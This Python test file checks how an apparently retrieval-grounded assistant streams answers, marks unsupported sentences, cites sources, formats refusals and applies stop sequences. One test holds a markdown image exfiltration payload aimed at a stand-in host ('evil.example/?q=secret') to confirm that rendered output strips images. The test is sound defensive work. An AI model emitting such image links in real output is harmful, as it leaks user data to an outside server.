"""The text of an answer: whole, and bit by bit to a reader who cannot take anything back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from samples import evidence

from assistant.types import Answer, Citation, Sentence
from ui.api.generation import until
from ui.api.text import Teller, as_said, marked, text_of

HIT = evidence("A trip may last up to 56 days.")
CITED = (Citation(1, HIT.document, HIT.path, None, 100, 130, HIT.text),)


def sentence(text: str, supported: bool = True) -> Sentence:
    return Sentence(text, supported, "" if supported else "no passage says so", CITED if supported else ())


def answer(*sentences: Sentence, text: str = "", refused: bool = False) -> Answer:
    return Answer("?", "?", text, sentences, (HIT,), refused=refused)


def told(teller: Teller, heard: list[Sentence], final: Answer) -> str:
    return "".join([*(teller.next(one) for one in heard), teller.rest(final)])


@pytest.mark.parametrize("strict", [True, False])
@pytest.mark.parametrize("with_sources", [True, False])
@given(supported=st.lists(st.booleans(), min_size=1, max_size=6))
def test_a_stream_tells_the_whole_text(strict: bool, with_sources: bool, supported: list[bool]) -> None:
    sentences = [sentence(f"Sentence {number}.", yes) for number, yes in enumerate(supported)]
    is_replaced = strict and not any(supported)
    final = answer(sentence("Quoted instead.")) if is_replaced else answer(*sentences)
    assert told(Teller(strict, with_sources), sentences, final) == text_of(final, with_sources)


def test_unsupported_words_are_not_told_before_it_is_sure_that_they_stay() -> None:
    strict, open_ = Teller(True, False), Teller(False, False)
    doubtful = sentence("The moon is made of cheese.", supported=False)
    assert strict.next(doubtful) == ""
    assert strict.next(sentence("A trip may last 56 days.")) == (
        "The moon is made of cheese. [unsupported] A trip may last 56 days. [1]"
    )
    assert open_.next(doubtful) == "The moon is made of cheese. [unsupported]"


def test_an_answer_that_takes_another_turn_is_told_anew() -> None:
    refusal = answer(text="I can't find that.", refused=True)
    assert told(Teller(True, False), [sentence("Yes.")], refusal) == "Yes. [1]\n\nI can't find that."


def test_sources_name_cited_passages_or_the_nearest_ones() -> None:
    assert text_of(answer(sentence("Yes.")), with_sources=True).endswith(
        "\n\nSources:\n- [1] terms-1.md · § 1 Cover: “A trip may last up to 56 days.”"
    )
    refusal = text_of(answer(text="No.", refused=True), with_sources=True)
    assert refusal.startswith("No.\n\nNearest passages:\n- terms-1.md")


def test_what_was_written_into_an_answer_can_be_taken_out_again() -> None:
    answered = answer(sentence("Yes."), sentence("Perhaps.", supported=False))
    refused = answer(text="No.", refused=True)
    for with_sources in (True, False):
        assert as_said(text_of(answered, with_sources)) == "Yes. Perhaps."
        assert as_said(text_of(refused, with_sources)) == "No."


def test_no_image_of_a_document_is_shown() -> None:
    assert "![" not in marked(sentence("See ![x](https://evil.example/?q=secret)."))
    hostile = answer(text="![x](https://evil.example)", refused=True)
    assert "![" not in text_of(hostile, with_sources=False)


@given(
    text=st.text("abEND", max_size=20),
    stop=st.lists(st.text("abEND", min_size=1, max_size=4), max_size=3),
    data=st.data(),
)
def test_an_answer_ends_at_the_same_place_however_it_is_cut_into_pieces(
    text: str, stop: list[str], data: st.DataObject
) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    ended = "".join(until(pieces, stop))
    assert ended == "".join(until(text, stop))
    assert not any(one in ended for one in stop)
    assert text.startswith(ended)
